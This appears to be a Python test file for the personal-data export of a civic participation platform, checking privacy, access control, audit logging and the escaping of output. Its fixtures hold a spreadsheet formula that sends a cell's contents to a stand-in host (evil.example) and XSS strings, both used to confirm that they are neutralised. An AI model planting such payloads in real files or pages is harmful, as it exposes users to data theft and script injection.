"""A person downloads everything the platform holds about them (DSGVO Art. 15 and 20), and an
admin prepares the same for a person on their written request: each kind of data is there,
nothing of anybody else is, no cell runs as a formula, no mailed token leaves, every download is
in the audit log, and the way is closed to everybody else."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from sqlalchemy import event, insert, select

from participation.comments.models import Comment
from participation.comments.services import add_comment
from participation.core.audit import ModerationDecision
from participation.core.models import utcnow
from participation.drafts import services as drafts
from participation.extensions import db as _db
from participation.mail import notifications
from participation.measures.discussion import follow as follow_measure
from participation.moderation import services as moderation
from participation.organisations.services import request_membership
from participation.privacy.contents import KINDS
from participation.proposals import services as proposals
from tests.conftest import logged_in
from tests.drafting import first_paragraph, hide_as_spam, open_phase
from tests.measuring import measure, organisation

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
ANNA_COMMENT = "Annas Kommentar: mehr Bänke am Rheinufer"
HIDDEN_COMMENT = "Annas ausgeblendeter Kommentar"
BERT_COMMENT = "Berts eigener Gedanke im selben Faden"
OTHERS = ("bert@example.org", "mona@example.org", "ada@example.org", BERT_COMMENT, "Mona Moderatorin", "Ada Admin")


@pytest.fixture
def world(db, users, draft):
    """Anna has data of every kind; Bert writes in the same thread, Mona moderates, Ada administers."""
    open_phase(db, votes=True, comments=True, proposals=True, supports=True)
    anna = users(email="anna@example.org", display_name="Anna")
    bert = users(email="bert@example.org", display_name="Bert")
    mona = users(email="mona@example.org", display_name="Mona Moderatorin", roles=("participant", "moderator"))
    users(email="ada@example.org", display_name="Ada Admin", roles=("participant", "admin"))
    planner = users(email="paula@example.org", display_name="Paula", roles=("participant", "planner"))
    own = proposals.submit(anna, "WLAN in Schulen", "Jede Schule bekommt WLAN.", "education")
    proposals.edit(own, "WLAN in allen Schulen", "Jede Schule bekommt schnelles WLAN.", "education", None, None)
    hostile = proposals.submit(anna, HOSTILE, f"{HTML} -1+1 @summe", "open_data")
    berts = proposals.submit(bert, "Radwege in Kalk", "Mehr Radwege.", "infrastructure")
    berts_comment = add_comment(bert, BERT_COMMENT, None, proposal=berts)
    add_comment(anna, ANNA_COMMENT, None, proposal=berts, parent=berts_comment)
    hidden = add_comment(anna, HIDDEN_COMMENT, None, proposal=berts)
    hide_as_spam(mona, bert, hidden, note="Werbung für einen Laden")
    drafts.cast_vote(anna, first_paragraph(draft), 1)
    proposals.support(anna, berts)
    proposals.follow(anna, berts)
    follow_measure(anna, measure(db, actor=planner))
    moderation.flag(anna, berts_comment, "off_topic", "Passt nicht zum Vorschlag")
    request_membership(anna, organisation(db, "Bürgerverein Kalk", "association"), "Vorstand")
    notifications.stop(anna.id, "measures")
    db.session.commit()
    from participation.auth.services import request_password_reset

    request_password_reset("anna@example.org")
    db.session.commit()
    return {"anna": anna, "bert": bert, "own": own, "hostile": hostile, "hidden": hidden, "berts": berts}


def _download(person, url="/account/data", data=None):
    return person.submit(url, data or {})


def _files(response) -> dict[str, str]:
    assert response.status_code == 200, response.status_code
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def _rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_a_person_finds_their_data_of_every_kind(app, world):
    anna = world["anna"]
    response = _download(logged_in(app, "anna@example.org"))
    assert response.mimetype == "application/zip"
    assert re.fullmatch(r'attachment; filename="my-data-\d{4}-\d\d-\d\d\.zip"', response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "no-store"
    assert int(response.headers["Content-Length"]) == len(response.get_data())
    files = _files(response)
    data = json.loads(files["data.json"])
    assert data["meta"]["account_id"] == anna.id
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", data["meta"]["prepared_at"])
    assert set(data) == {"meta", *(kind.key for kind in KINDS)}
    assert data["account"]["email"] == "anna@example.org" and data["account"]["display_name"] == "Anna"
    assert "password_hash" not in data["account"] and "session_salt" not in data["account"]
    assert [role["role"] for role in data["roles"]] == ["participant"]
    assert {p["title"] for p in data["proposals"]} == {"WLAN in allen Schulen", HOSTILE}
    assert [(w["title"], w["body"]) for w in data["proposal_earlier_wordings"]] == [
        ("WLAN in Schulen", "Jede Schule bekommt WLAN.")
    ]
    comments = {c["body"]: c for c in data["comments"]}
    assert set(comments) == {ANNA_COMMENT, HIDDEN_COMMENT}
    hidden = comments[HIDDEN_COMMENT]
    assert (hidden["status"], hidden["moderation_reason"], hidden["moderation_note"]) == (
        "hidden",
        "spam",
        "Werbung für einen Laden",
    )
    assert [(v["version"], v["paragraph"], v["value"]) for v in data["votes"]] == [(1, "1.1", 1)]
    assert [s["proposal_id"] for s in data["supports"]] == [world["berts"].id]
    assert {f["proposal_id"] for f in data["followed_proposals"]} == {
        world["own"].id,
        world["hostile"].id,
        world["berts"].id,
    }
    assert [m["measure_title"] for m in data["followed_measures"]] == ["Glasfaser für alle Schulen"]
    assert [(f["reason"], f["note"]) for f in data["reports_filed"]] == [("off_topic", "Passt nicht zum Vorschlag")]
    assert [(m["organisation"], m["note"]) for m in data["organisation_memberships"]] == [
        ("Bürgerverein Kalk", "Vorstand")
    ]
    assert {s["kind"]: s["wanted"] for s in data["mail_settings"]}["measures"] is False
    hide = next(d for d in data["decisions_about_you"] if d["action"] == "hide")
    assert (hide["target_id"], hide["reason"], hide["by_you"]) == (world["hidden"].id, "spam", False)
    assert {"moderation_hidden", "reset_password"} <= {mail["kind"] for mail in data["mails"]}
    # the CSV files say the same, in words, with headings in the person's language
    assert {row["Text"] for row in _rows(files["comments.csv"])} == {ANNA_COMMENT, HIDDEN_COMMENT}
    assert "Werbung für einen Laden" in files["comments.csv"]
    assert {name for name in files if name.endswith(".csv")} == {f"{kind.key}.csv" for kind in KINDS if data[kind.key]}
    for name in files:
        assert name in files["README.txt"] or name == "README.txt"


def test_nothing_of_anybody_else_and_no_mailed_token(app, world):
    files = _files(_download(logged_in(app, "anna@example.org")))
    everything = "\n".join(files.values())
    for foreign in OTHERS:
        assert foreign not in everything, foreign
    reset = next(m for m in json.loads(files["data.json"])["mails"] if m["kind"] == "reset_password")
    assert "/password/reset/[…]" in reset["body"]
    from tests.conftest import outbox

    token = outbox("reset_password")[0].body_text.split("/password/reset/")[1].split()[0]
    assert len(token) > 20 and token not in everything


def test_no_cell_runs_as_a_formula_and_html_stays_text(app, world):
    files = _files(_download(logged_in(app, "anna@example.org")))
    rows = _rows(files["proposals.csv"])
    hostile = next(row for row in rows if row["Nr."] == str(world["hostile"].id))
    assert hostile["Titel"] == "'" + HOSTILE and hostile["Text"].startswith(HTML)
    for name, text in files.items():
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), name
    assert json.loads(files["data.json"])["proposals"][1]["body"].startswith(HTML)


def test_each_download_is_logged_without_personal_data(app, world, db):
    anna = world["anna"]
    _download(logged_in(app, "anna@example.org"))
    [entry] = db.session.scalars(select(ModerationDecision).where(ModerationDecision.action == "download_own_data"))
    assert (entry.actor_id, entry.target_type, entry.target_id) == (anna.id, "user", anna.id)
    assert (entry.reason, entry.note, entry.state_before, entry.state_after) == (None, None, None, None)


def test_visitors_are_sent_to_log_in(client, browser):
    assert client.get("/account/data").headers["Location"].startswith("/login?next=")
    response = browser.submit("/", {}, action="/account/data")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login?next=")


def test_another_persons_data_cannot_be_fetched_by_id(app, world):
    anna = logged_in(app, "anna@example.org")
    bert_id = world["bert"].id
    files = _files(anna.submit("/account/data", {"user_id": bert_id}, action=f"/account/data?user_id={bert_id}"))
    assert json.loads(files["data.json"])["account"]["email"] == "anna@example.org"
    assert anna.get(f"/admin/users/{bert_id}/data").status_code == 403
    response = anna.submit("/account/data", {"reason": "Ich bin Bert"}, action=f"/admin/users/{bert_id}/data")
    assert response.status_code == 403 and response.mimetype != "application/zip"


@pytest.mark.parametrize("app_config", [{"RATELIMIT_PERSONAL_DATA": "2 per hour"}])
def test_downloads_are_rate_limited_per_account(app, world):
    anna = logged_in(app, "anna@example.org")
    assert [_download(anna).status_code for _ in range(3)] == [200, 200, 429]
    assert _download(logged_in(app, "bert@example.org")).status_code == 200


def test_the_admin_path_needs_the_role_and_a_reason_and_is_logged(app, world, db, users):
    bert = world["bert"]
    url = f"/admin/users/{bert.id}/data"
    mona = logged_in(app, "mona@example.org")
    assert mona.get(url).status_code == 403
    assert mona.submit("/account/data", {"reason": "Brief"}, action=url).status_code == 403
    ada = logged_in(app, "ada@example.org")
    page = ada.get(url)
    assert page.status_code == 200 and "bert@example.org" in page.get_data(as_text=True)
    refused = ada.submit(url, {"reason": "   "})
    assert refused.status_code == 422 and 'aria-invalid="true"' in refused.get_data(as_text=True)
    assert (
        db.session.scalar(select(ModerationDecision).where(ModerationDecision.action == "export_personal_data")) is None
    )
    response = ada.submit(url, {"reason": "Brief vom 3. März, Az. 15-2025"})
    assert re.fullmatch(
        rf'attachment; filename="personal-data-account-{bert.id}-\d{{4}}-\d\d-\d\d\.zip"',
        response.headers["Content-Disposition"],
    )
    assert response.headers["Cache-Control"] == "no-store"
    files = _files(response)
    data = json.loads(files["data.json"])
    assert data["account"]["email"] == "bert@example.org"
    assert BERT_COMMENT in files["comments.csv"] and ANNA_COMMENT not in "\n".join(files.values())
    assert "anna@example.org" not in "\n".join(files.values())
    [entry] = db.session.scalars(select(ModerationDecision).where(ModerationDecision.action == "export_personal_data"))
    assert (entry.target_type, entry.target_id, entry.reason) == ("user", bert.id, "Brief vom 3. März, Az. 15-2025")
    assert entry.actor.email == "ada@example.org"
    # the person later finds the preparation and its reason, not who prepared it
    later = _files(_download(logged_in(app, "bert@example.org")))
    assert "Brief vom 3. März, Az. 15-2025" in later["decisions_about_you.csv"]
    assert "Ada Admin" not in "\n".join(later.values()) and "ada@example.org" not in "\n".join(later.values())
    assert ada.get("/admin/users/2147483647/data").status_code == 404


def test_hostile_names_and_reasons_are_escaped_on_the_admin_page(app, world, users):
    target = users(email="evil@example.org", display_name='<script>alert("n")</script>')
    ada = logged_in(app, "ada@example.org")
    page = ada.get(f"/admin/users/{target.id}/data").get_data(as_text=True)
    assert '<script>alert("n")' not in page and "&lt;script&gt;" in page
    refused = ada.submit(f"/admin/users/{target.id}/data", {"reason": "x" * 501 + HTML})
    assert refused.status_code == 422 and HTML not in refused.get_data(as_text=True)


def test_the_account_page_links_to_the_download(app, world):
    anna = logged_in(app, "anna@example.org")
    assert 'href="/account/data"' in anna.get("/account/").get_data(as_text=True)
    page = anna.get("/account/data").get_data(as_text=True)
    assert 'action="/account/data"' in page and "comments.csv" in page


def _statements_of_a_download(app, email) -> tuple[int, int]:
    person = logged_in(app, email)
    token = person.token("/account/data")
    statements = []

    def count(*args):
        statements.append(args[2])

    event.listen(_db.engine, "before_cursor_execute", count)
    try:
        response = person.client.post("/account/data", data={"csrf_token": token})
    finally:
        event.remove(_db.engine, "before_cursor_execute", count)
    return len(statements), len(json.loads(_files(response)["data.json"])["comments"])


def test_a_very_active_person_costs_no_more_queries(app, world, db):
    """One query per kind, whatever the number of rows: 5,000 comments cost what two do."""
    few, two = _statements_of_a_download(app, "anna@example.org")
    anna, berts = world["anna"], world["berts"]
    now = utcnow()
    db.session.execute(
        insert(Comment),
        [
            {
                "author_id": anna.id,
                "author_group": "residents",
                "proposal_id": berts.id,
                "depth": 0,
                "body": f"Kommentar {number}: =1+{number} und ein längerer Text, wie ihn Menschen schreiben.",
                "status": "published",
                "created_at": now,
                "published_at": now,
            }
            for number in range(5_000)
        ],
    )
    db.session.commit()
    many, count = _statements_of_a_download(app, "anna@example.org")
    assert (two, count) == (2, 5_002)
    assert many == few


def test_mail_to_an_address_before_it_became_yours_stays_out(app, db, users):
    """Bert leaves his address for a new one and Carla takes the old one: the mails the platform
    wrote to Bert there (the notice of his change names his new address) are not in Carla's
    download. An address is free again once its account leaves it."""
    from participation.auth import address
    from participation.auth.services import request_password_reset
    from tests.conftest import outbox

    bert = users(email="alt@example.org", display_name="Bert")
    db.session.commit()
    request_password_reset("alt@example.org")
    assert address.request_change(bert, "bert.neu@example.org")
    db.session.commit()
    assert address.confirm_change(bert)
    db.session.commit()
    to_old = {mail.kind for mail in outbox() if mail.recipient == "alt@example.org"}
    assert to_old >= {"reset_password", "email_changed"}
    users(email="alt@example.org", display_name="Carla")
    db.session.commit()

    files = _files(_download(logged_in(app, "alt@example.org")))
    assert json.loads(files["data.json"]).get("mails", []) == []
    everything = "\n".join(files.values())
    assert "bert.neu@example.org" not in everything and "Bert" not in everything


def test_a_new_address_waiting_for_confirmation_is_in_the_download_while_it_waits(app, db, users):
    from tests.functional.test_email_change import ask

    users(email="bert@example.org", display_name="Bert")
    bert = logged_in(app, "bert@example.org")
    assert json.loads(_files(_download(bert))["data.json"])["account"]["pending_email"] in (None, "")
    assert ask(bert, "bert.neu@example.org").status_code == 303
    files = _files(_download(bert))
    account = json.loads(files["data.json"])["account"]
    assert account["pending_email"] == "bert.neu@example.org" and account["pending_email_requested_at"]
    assert "bert.neu@example.org" in files["account.csv"]
    assert bert.submit("/account/", {}, action="/account/email/cancel").status_code == 303
    account = json.loads(_files(_download(bert))["data.json"])["account"]
    assert account["pending_email"] in (None, "") and account["pending_email_requested_at"] in (None, "")


@pytest.mark.parametrize(
    "reason",
    ["Mail von bert@example.org vom 3. März", "Brief, Antwort an bert (at) example.org", "Az. 15 – B.Meier @ web.de"],
)
def test_the_admin_reason_keeps_email_addresses_out_of_the_audit_log(app, world, db, reason):
    from bs4 import BeautifulSoup

    url = f"/admin/users/{world['bert'].id}/data"
    ada = logged_in(app, "ada@example.org")
    page = BeautifulSoup(ada.get(url).get_data(as_text=True), "html.parser")
    assert "keine personenbezogenen Daten" in page.find(id="reason-hint").get_text()
    assert "reason-hint" in page.find(id="reason")["aria-describedby"]

    refused = ada.submit(url, {"reason": reason})
    assert refused.status_code == 422 and refused.headers["Content-Type"].startswith("text/html")
    page = BeautifulSoup(refused.get_data(as_text=True), "html.parser")
    assert "E-Mail-Adresse" in page.find(id="reason-error").get_text()
    assert page.find(id="reason").get_text().strip() == reason  # what was typed stays
    assert (
        db.session.scalar(select(ModerationDecision).where(ModerationDecision.action == "export_personal_data")) is None
    )
    # the same request named by its date and reference passes
    assert ada.submit(url, {"reason": "Brief vom 3. März, Az. 15-2025"}).status_code == 200
